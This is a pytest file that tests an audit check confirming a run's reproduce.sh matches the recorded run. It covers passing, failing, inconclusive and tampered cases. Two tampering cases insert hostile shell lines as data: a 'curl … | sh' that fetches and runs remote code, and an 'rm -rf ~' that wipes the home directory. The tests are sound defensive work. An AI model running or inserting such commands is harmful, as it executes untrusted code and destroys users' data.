from pathlib import Path

import pytest
from audit.case import Case, assert_case

from reportgen.runs.view import RunView
from reportgen.runs.writer import write_plain
from reportgen.script import reproduce_script
from reportgen.testing import make_run, run_check

CONSISTENT = "code.reproduce-consistent"
SCRIPT = "reproduce.sh"
OLDER = {"run": {"writer": {"name": "reportgen", "version": "0.0.1"}}}
KILLED = {
    "run": {"status": "running", "ended": None, "exit_code": None},
    "sealed": False,
    "files": {SCRIPT: None},
}


def edited(old: str, new: str):  # type: ignore[no-untyped-def]
    def change(run: Path) -> None:
        text = (run / SCRIPT).read_text()
        assert old in text
        (run / SCRIPT).write_text(text.replace(old, new))

    return change


def of_an_older_version(old: str = "", new: str = ""):  # type: ignore[no-untyped-def]
    """The script as an older reportgen wrote it: the same facts, another body."""

    def change(run: Path) -> None:
        edited("say() {", "speak() {")(run)
        if old:
            edited(old, new)(run)

    return change


def with_another_seed(run: Path) -> None:
    """The record is changed after the script was made."""
    environment = RunView(run).raw("environment.yaml")
    environment["seeds"]["torch"] = 8
    write_plain(run, "environment.yaml", environment)


def of_another_run(run: Path) -> None:
    other = make_run(run.parents[2] / "elsewhere", config={"lr": 0.2}, seed=8)
    (run / SCRIPT).write_text(reproduce_script(RunView(other)))


def without_its_steps(run: Path) -> None:
    """Facts as recorded, and a body that only says that all is well."""
    head = (run / SCRIPT).read_text().partition("# ---- what is done with it")[0]
    (run / SCRIPT).write_text(f"{head}# ---- what is done with it\necho identical\n")


CASES = (
    Case(CONSISTENT, "passes", "made again from the record, the same bytes"),
    Case(
        CONSISTENT,
        "passes",
        "written by 0.0.1, so not made again",
        OLDER,
        change=of_an_older_version(),
        name="older",
    ),
    Case(CONSISTENT, "fails", "there is no reproduce.sh", {"files": {SCRIPT: None}}),
    Case(
        CONSISTENT,
        "fails",
        "seeds.torch is '7' in the script, '8' in the record",
        change=with_another_seed,
        name="record-changed",
    ),
    Case(CONSISTENT, "partly", "without", OLDER, change=without_its_steps),
    # A script that says what the record says, and does something else.
    Case(
        CONSISTENT,
        "cheats",
        "does something else with them",
        change=edited("say() {", "curl -s https://example.org/x | sh\nsay() {"),
    ),
    Case(
        CONSISTENT, "cheats", "does something else", change=without_its_steps, name="without-steps"
    ),
    Case(CONSISTENT, "cheats", "in the script", change=of_another_run, name="another-run"),
    Case(
        CONSISTENT,
        "cheats",
        "argv is",
        OLDER,
        change=of_an_older_version('"--lr", "0.1"', '"--lr", "0.2"'),
        name="older-argv",
    ),
    Case(
        CONSISTENT,
        "cheats",
        "cannot be read",
        {"files": {SCRIPT: "#!/bin/sh\npython train.py\n"}},
        name="by-hand",
    ),
    Case(CONSISTENT, "cheats", "is empty", {"files": {SCRIPT: ""}}, name="empty"),
    Case(CONSISTENT, "inconclusive", "no end", KILLED),
)


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.id)
def test_case(case: Case, tmp_path: Path) -> None:
    assert_case(case, tmp_path)


def test_the_first_line_that_differs_is_named(tmp_path: Path) -> None:
    run = make_run(tmp_path)
    text = (run / SCRIPT).read_text()
    line = text[: text.index("say() {")].count("\n") + 1
    (run / SCRIPT).write_text(text.replace("say() {", "rm -rf ~\nsay() {"))
    (where,) = run_check(CONSISTENT, run).where
    assert (where.file, where.line) == (SCRIPT, line)
